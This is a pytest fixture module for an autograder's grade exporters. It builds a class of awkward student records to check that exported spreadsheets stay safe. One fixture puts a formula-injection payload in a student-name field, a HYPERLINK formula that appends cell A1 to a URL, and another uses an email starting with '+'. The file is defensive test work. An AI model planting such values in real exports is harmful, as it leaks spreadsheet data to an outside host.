"""A class with everything that has gone wrong somewhere, and what a spreadsheet would run."""

import csv
import io
import re
import unicodedata
from datetime import UTC, datetime, timedelta

import pytest

from autograder.report.export import ExportOptions
from autograder.report.export.canvas import CanvasExporter
from autograder.report.export.gradescope import GradescopeExporter
from autograder.report.export.moodle import MoodleExporter
from autograder.report.export.spreadsheet import CsvExporter
from autograder.schema import Environment, Result

EXPORTERS = {
    "canvas": CanvasExporter,
    "csv": CsvExporter,
    "gradescope": GradescopeExporter,
    "moodle": MoodleExporter,
}
NOON = datetime(2026, 11, 22, 12, tzinfo=UTC)


def runs(cell):
    """Whether a spreadsheet would work out `cell` instead of showing it."""
    text = unicodedata.normalize("NFKC", cell).lstrip()
    if re.fullmatch(r"[+-]?[\d.]+|-", text) or re.fullmatch(r'="[^"]*"', cell):
        return False
    harmless = re.fullmatch(r"[\w.+-]+@[\w.-]+", text)  # no call, no reference to elsewhere
    return text.startswith(tuple("=+-@")) and not harmless


def read_csv(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def make_minimal(number, name, score, email=""):
    """A result without questions, for examples that hypothesis makes."""
    return Result(
        assessment="a",
        submission=number,
        student=name,
        email=email,
        platform_id=number,
        outcome="graded",
        score=score,
        points=10.0,
        environment=Environment(sandbox="scripted"),
        graded_at=NOON,
    )


@pytest.fixture
def options():
    def make(**more):
        return ExportOptions(**{"assessment": "a01_digits", "title": "숫자, Digits", **more})

    return make


@pytest.fixture
def make_person(make_result, make_question):
    """A result of a student who is told by id and e-mail, at a time that follows the attempt."""

    def make(student, score=7.5, **more):
        slug = more.pop("slug", student)
        question = make_question("q1", score=score, points=10.0)
        attempt = more.get("attempt", 1)
        values = {
            "submission": f"{slug}-{attempt}",
            "student": student,
            "email": "",
            "attempt": attempt,
            "submitted_at": NOON + timedelta(hours=attempt),
        }
        return make_result([question], **{**values, **more})

    return make


@pytest.fixture
def make_class(make_person, make_result):
    """Students with ids and addresses, one of each kind of trouble."""

    def make():
        nfd = unicodedata.normalize("NFD", "이도윤")
        formula = '=HYPERLINK("http://x?"&A1,"a")'
        failed = {"outcome": "grader_error", "score": None}
        return [
            make_person("김서연", 7.125, platform_id="101", email="Seoyeon@snu.ac.kr"),
            make_person(nfd, 10.0, platform_id="102", email="doyun@snu.ac.kr", late=True),
            make_person("김민수", 3.0, platform_id="103", email="minsu1@snu.ac.kr", slug="m1"),
            make_person("김민수", 4.0, platform_id="104", email="minsu2@snu.ac.kr", slug="m2"),
            make_person('Lee, "Jay"\nJr.', 0.0, platform_id="105", email="jay@snu.ac.kr"),
            make_person(formula, 9.0, platform_id="106", email="+f@snu.ac.kr"),
            make_person("박하은", 9.5, platform_id="107", email="haeun@snu.ac.kr"),
            make_person("박하은", 2.25, platform_id="107", email="haeun@snu.ac.kr", attempt=2),
            make_result(
                student="최지호",
                submission="jiho",
                platform_id="108",
                email="jiho@snu.ac.kr",
                **failed,
            ),
        ]

    return make
